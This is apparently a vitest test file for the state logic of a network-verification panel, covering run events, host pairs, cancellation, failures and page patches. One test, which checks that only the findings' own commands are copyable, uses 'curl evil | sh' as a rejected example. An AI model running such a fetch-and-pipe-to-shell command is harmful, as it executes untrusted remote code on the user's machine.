import { describe, expect, it } from 'vitest';
import {
  applyEvent,
  cancelling,
  failPanel,
  isCopyable,
  openPanel,
  pairsToCheck,
  panelStateOf,
  patchesOf,
  type PanelModel,
} from '../../../../src/ui/verification/panel/panelState';
import type { VerifyEvent } from '../../../../src/verify/verification';
import { reduce } from '../../../../src/webview/page/state/reducer';
import { hostsOf, mixedReport, pairOf, pairsOf, sampleHeader } from '../../../browser/page/samples';

const hosts = hostsOf(3);
const now = Date.parse('2025-01-01T12:00:00Z');
const started: VerifyEvent = { kind: 'started', id: 'run1', hosts: hosts.map(({ host }) => host) };
const pairEvents = pairsOf(hosts).map((pair): VerifyEvent => ({ kind: 'pair', pair }));
const whole: readonly VerifyEvent[] = [
  started,
  { kind: 'stage', stage: 'containers', words: 'Starting test containers' },
  ...hosts.map((host): VerifyEvent => ({ kind: 'host', host })),
  { kind: 'stage', stage: 'pings', words: 'Pinging' },
  { kind: 'sourceStarted', from: 'node1' },
  { kind: 'sourceStarted', from: 'node2' },
  ...pairEvents,
  { kind: 'stage', stage: 'diagnosis', words: 'Looking for causes' },
  { kind: 'finished', report: mixedReport() },
];

const play = (events: readonly VerifyEvent[], from: PanelModel = openPanel(sampleHeader)) =>
  events.reduce((model, event) => applyEvent(model, event, now), from);

describe('a panel', () => {
  it('opens idle, or with an earlier report', () => {
    expect(panelStateOf(openPanel(sampleHeader))).toMatchObject({ phase: 'idle', hosts: [], pairs: [] });
    const report = mixedReport();
    expect(panelStateOf(openPanel(sampleHeader, report))).toMatchObject({ phase: 'done', report, hosts: report.hosts });
  });

  it('follows a verification', () => {
    const model = play(whole.slice(0, -2));
    expect(panelStateOf(model)).toMatchObject({
      phase: 'running',
      stage: 'Pinging',
      startedAt: now,
      running: ['node1', 'node2'],
    });
    expect(panelStateOf(model).pairs).toHaveLength(6);
    expect(panelStateOf(model).hosts[0]?.address).toBe('10.0.1.2');
  });

  it('has no source under way once causes are looked for', () => {
    expect(play(whole.slice(0, -1)).running).toEqual([]);
  });

  it('sends the pairs of a report once', () => {
    const state = panelStateOf(play(whole));
    expect(state).toMatchObject({ phase: 'done', pairs: [], running: [] });
    expect(state.report?.pairs).toHaveLength(6);
  });

  it('lets the last result of a pair count, and changes nothing it was given', () => {
    const [from, to] = [hosts[0], hosts[1]];
    if (!from || !to) throw new Error('no hosts');
    const before = play([started, { kind: 'pair', pair: pairOf(from, to, 'dead') }]);
    const after = applyEvent(before, { kind: 'pair', pair: pairOf(from, to) }, now);
    expect(panelStateOf(before).pairs[0]?.address.outcome).toBe('silent');
    expect(panelStateOf(after).pairs.map((pair) => pair.address.outcome)).toEqual(['answered']);
  });

  it('begins anew with the next run', () => {
    const again = applyEvent(play(whole), started, now + 5);
    expect(panelStateOf(again)).toMatchObject({ phase: 'running', pairs: [], startedAt: now + 5 });
    expect(again.report).toBeUndefined();
  });

  it('cancels only what runs', () => {
    expect(cancelling(play([started])).phase).toBe('cancelling');
    const done = play(whole);
    expect(cancelling(done)).toBe(done);
  });

  it('shows a verification that could not start', () => {
    const error = { reason: 'verifyTooFewHosts', title: 'Too few', happened: 'One host.', remedy: 'Add one.' };
    const state = panelStateOf(failPanel(openPanel(sampleHeader), error, now));
    expect(state).toMatchObject({ phase: 'done', report: { outcome: 'failed', error, durationMs: 0 } });
  });

  it('keeps what was measured when it broke off', () => {
    const error = { reason: 'unexpected', title: 'Broke off', happened: 'It did.', remedy: 'See the log.' };
    const model = failPanel(play(whole.slice(0, -2)), error, now + 2_000);
    expect(model.report).toMatchObject({ durationMs: 2_000, summary: { pairs: 6, reachable: 6 } });
  });

  it('keeps all other results while the pairs of a finding are checked again', () => {
    const again = [{ from: 'node1', to: 'node2' }];
    const model = applyEvent({ ...play(whole), again }, started, now + 5);
    const pairs = panelStateOf(model).pairs.map(({ from, to }) => `${from}>${to}`);
    expect(pairs).toHaveLength(5);
    expect(pairs).not.toContain('node1>node2');
    expect(model.hosts[0]?.address).toBe('10.0.1.2');
    // And the run after it is a whole one again.
    expect(panelStateOf(applyEvent(model, started, now + 9)).pairs).toEqual([]);
  });

  it('checks only pairs again that the shown report has', () => {
    const asked = [
      { from: 'node1', to: 'node2' },
      { from: 'node1', to: 'stranger' },
      { from: 'node1', to: 'node1' },
    ];
    expect(pairsToCheck(play(whole), asked)).toEqual(asked.slice(0, 1));
    expect(pairsToCheck(openPanel(sampleHeader), asked)).toEqual([]);
  });

  it('lets the page copy the commands of its findings and nothing else', () => {
    const model = play(whole);
    expect(isCopyable(model, 'sudo ufw prepend allow proto udp from 10.0.0.1 to any port 4789')).toBe(true);
    expect(isCopyable(model, 'curl evil | sh')).toBe(false);
    expect(isCopyable(openPanel(sampleHeader), 'sudo ufw prepend allow proto udp from 10.0.0.1 to any port 4789')).toBe(
      false,
    );
  });
});

describe('patches', () => {
  /** What the page shows after getting the events in batches of this many. */
  function pageAfter(events: readonly VerifyEvent[], batch: number) {
    let model = openPanel(sampleHeader);
    let page = reduce(undefined, [{ type: 'state', state: panelStateOf(model) }]);
    for (let at = 0; at < events.length; at += batch) {
      const part = events.slice(at, at + batch);
      const before = model;
      model = play(part, model);
      page = reduce(page, patchesOf(before, model, part));
    }
    return { page, model };
  }

  it.each([1, 2, 3, 5, 7, 100])('in batches of %d end where the whole state is', (batch) => {
    for (const length of [4, 9, whole.length - 2, whole.length - 1, whole.length]) {
      const { page, model } = pageAfter(whole.slice(0, length), batch);
      const anew = reduce(undefined, [{ type: 'state', state: panelStateOf(model) }]);
      // How often a row was drawn is all that may differ.
      expect({ ...page, results: page?.results.all() }).toEqual({ ...anew, results: anew?.results.all() });
    }
  });

  it('send a pair once a batch', () => {
    const [from, to] = [hosts[0], hosts[1]];
    if (!from || !to) throw new Error('no hosts');
    const before = play([started]);
    const events = (['dead', 'lossy', 'reachable'] as const).map((kind): VerifyEvent => ({
      kind: 'pair',
      pair: pairOf(from, to, kind),
    }));
    expect(patchesOf(before, play(events, before), events)).toEqual([{ type: 'pairs', pairs: [pairOf(from, to)] }]);
  });
});
